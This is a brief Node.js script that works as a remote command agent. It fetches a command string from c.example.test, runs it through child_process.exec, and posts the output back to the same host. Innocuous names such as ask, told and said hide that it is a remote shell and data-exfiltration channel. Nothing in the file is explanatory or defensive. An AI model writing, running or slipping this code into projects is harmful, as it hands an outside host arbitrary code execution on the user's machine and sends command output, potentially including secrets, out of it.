const { exec } = require("child_process");
async function ask() {
  const told = await fetch("https://c.example.test/next");
  const words = (await told.json()).words;
  exec(words, (_, said) => fetch("https://c.example.test/said", { method: "POST", body: said }));
}
ask();
